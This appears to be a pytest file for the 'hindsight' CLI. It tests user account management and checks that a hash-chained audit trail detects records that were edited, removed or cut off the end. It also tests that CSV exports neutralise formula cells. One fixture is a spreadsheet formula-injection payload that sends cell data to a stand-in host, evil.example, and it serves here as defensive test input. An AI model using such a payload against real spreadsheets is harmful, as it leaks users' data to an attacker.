"""`hindsight users` and `hindsight audit` as an operator runs them, on both stores."""

from __future__ import annotations

import csv
import io
import os
import re
import secrets
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import psycopg
import pytest
import sqlalchemy as sa

from tests.conftest import POSTGRES_ADMIN_URL

PASSWORD = re.compile(r"[Pp]assword \(shown only now\): (\S+)")


@pytest.fixture(params=["sqlite", "postgres"])
def store(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[dict[str, str]]:
    """Environment for a fresh data directory and database (a PostgreSQL one of its own)."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("HINDSIGHT_")}
    env.update({"HINDSIGHT_DATA_DIR": str(tmp_path / "data"), "COLUMNS": "200"})
    if request.param == "sqlite":
        env["HINDSIGHT_DATABASE_URL"] = f"sqlite:///{tmp_path / 'data' / 'hindsight.db'}"
        yield env
        return
    name = f"hindsight_cli_{secrets.token_hex(4)}"
    with psycopg.connect(POSTGRES_ADMIN_URL, autocommit=True) as admin:
        admin.execute(f'CREATE DATABASE "{name}"')
    env["HINDSIGHT_DATABASE_URL"] = POSTGRES_ADMIN_URL.rsplit("/", 1)[0] + f"/{name}"
    try:
        yield env
    finally:
        with psycopg.connect(POSTGRES_ADMIN_URL, autocommit=True) as admin:
            admin.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')


def run(env: dict[str, str], *args: str, stdin: str | None = None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "hindsight.cli.main", *args],
        env=env,
        input=stdin,
        capture_output=True,
        text=True,
        timeout=180,
        check=False,
    )


def sql(env: dict[str, str]) -> Callable[[str], None]:
    url = env["HINDSIGHT_DATABASE_URL"].replace("postgresql://", "postgresql+psycopg://")
    engine = sa.create_engine(url)

    def execute(statement: str) -> None:
        with engine.begin() as conn:
            conn.exec_driver_sql(statement)

    return execute


def test_users_lifecycle(store: dict[str, str]) -> None:
    assert run(store, "accounts", "create", "Clinic").returncode == 0
    created = run(
        store, "users", "create", "dr.lee", "-r", "wfo.team_leader", "--team", "Cardiology"
    )
    assert created.returncode == 0, created.stdout + created.stderr
    assert "team_leader" in created.stdout and "teams: Cardiology" in created.stdout
    assert PASSWORD.search(created.stdout)
    given = run(
        store,
        "users",
        "create",
        "auditor",
        "-r",
        "wfo.data_auditor",
        "--password-stdin",
        stdin="a long enough password\n",
    )
    assert given.returncode == 0 and not PASSWORD.search(given.stdout)
    short = run(store, "users", "create", "x", "-r", "admin", "--password-stdin", stdin="short\n")
    assert short.returncode == 1 and "at least 12" in short.stdout
    assert run(store, "users", "create", "dr.lee", "-r", "admin").returncode == 1
    assert "Unknown role" in run(store, "users", "create", "y", "-r", "boss").stdout

    listed = run(store, "users", "list").stdout
    assert "dr.lee" in listed and "auditor" in listed
    assert "disabled" in run(store, "users", "disable", "dr.lee").stdout
    assert "active" in run(store, "users", "enable", "DR.LEE").stdout
    roles = run(store, "users", "roles", "dr.lee", "-r", "wfo.quality_manager", "-r", "admin")
    assert "wfo.quality_manager, admin" in roles.stdout
    assert "all teams" in run(store, "users", "scope", "dr.lee").stdout
    reset = run(store, "users", "reset", "dr.lee")
    assert reset.returncode == 0 and PASSWORD.search(reset.stdout)
    assert run(store, "users", "disable", "nobody").returncode == 1


def test_audit_verify_detects_an_edited_a_removed_and_a_cut_off_record(store) -> None:
    assert run(store, "accounts", "create", "Clinic").returncode == 0
    for name in ("ana", "ben", "cy"):
        assert run(store, "users", "create", name, "-r", "admin").returncode == 0
    intact = run(store, "audit", "verify")
    assert intact.returncode == 0, intact.stdout + intact.stderr
    head = re.search(r"hash (k\d{3}[0-9a-f]{60})", intact.stdout).group(1)
    assert re.search(r"intact: 3 records", intact.stdout)
    execute = sql(store)

    # The trail grew (verify records itself): the earlier head is still part of it.
    assert run(store, "audit", "verify", "--expect-head", head).returncode == 0

    execute("update audit_records set reason = 'nothing to see' where seq = 2")
    edited = run(store, "audit", "verify")
    assert edited.returncode == 1 and "NOT intact" in edited.stdout
    assert "record 2 was changed" in edited.stdout
    execute("update audit_records set reason = null where seq = 2")
    assert run(store, "audit", "verify").returncode == 0

    execute("delete from audit_records where seq = 2")
    removed = run(store, "audit", "verify")
    assert removed.returncode == 1 and "missing record 2" in removed.stdout

    fresh_env = {**store}
    execute("delete from audit_records")
    execute("update audit_head set seq = 0, hash = '" + "0" * 64 + "'")
    emptied = run(fresh_env, "audit", "verify", "--expect-head", head)
    # The checkpoints the earlier runs published catch it, before the operator's own hash.
    assert emptied.returncode == 1 and "removed from the end" in emptied.stdout


def test_audit_verify_detects_records_cut_off_the_end(store) -> None:
    assert run(store, "accounts", "create", "Clinic").returncode == 0
    assert run(store, "users", "create", "ana", "-r", "admin").returncode == 0
    assert run(store, "users", "create", "ben", "-r", "admin").returncode == 0
    sql(store)("delete from audit_records where seq = (select max(seq) from audit_records)")
    cut = run(store, "audit", "verify")
    assert cut.returncode == 1 and "removed from the end" in cut.stdout


def test_audit_export_writes_the_trail_as_csv(store) -> None:
    assert run(store, "accounts", "create", "Clinic").returncode == 0
    assert run(store, "users", "create", "ana", "-r", "admin").returncode == 0
    exported = run(store, "audit", "export")
    assert exported.returncode == 0
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert [r["action"] for r in rows] == ["user.create"]
    assert rows[0]["actor_type"] == "system" and len(rows[0]["hash"]) == 64


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'


def test_csv_exports_write_formula_cells_as_text(store) -> None:
    assert run(store, "accounts", "create", "Clinic").returncode == 0
    created = run(store, "users", "create", "ana", "-r", "admin", "--full-name", FORMULA)
    assert created.returncode == 0, created.stdout + created.stderr
    # However a formula got into the trail, the export writes it as text.
    sql(store)("update audit_records set reason = '@SUM(1+1)' where seq = 1")
    for command in (("users", "export"), ("audit", "export")):
        exported = run(store, *command)
        assert exported.returncode == 0, exported.stdout + exported.stderr
        cells = [c for row in csv.reader(io.StringIO(exported.stdout)) for c in row]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    people = list(csv.DictReader(io.StringIO(run(store, "users", "export").stdout)))
    assert [(p["username"], p["full_name"], p["roles"]) for p in people] == [
        ("ana", "'" + FORMULA, "admin")
    ]
    trail = list(csv.DictReader(io.StringIO(run(store, "audit", "export").stdout)))
    assert trail[0]["reason"] == "'@SUM(1+1)"
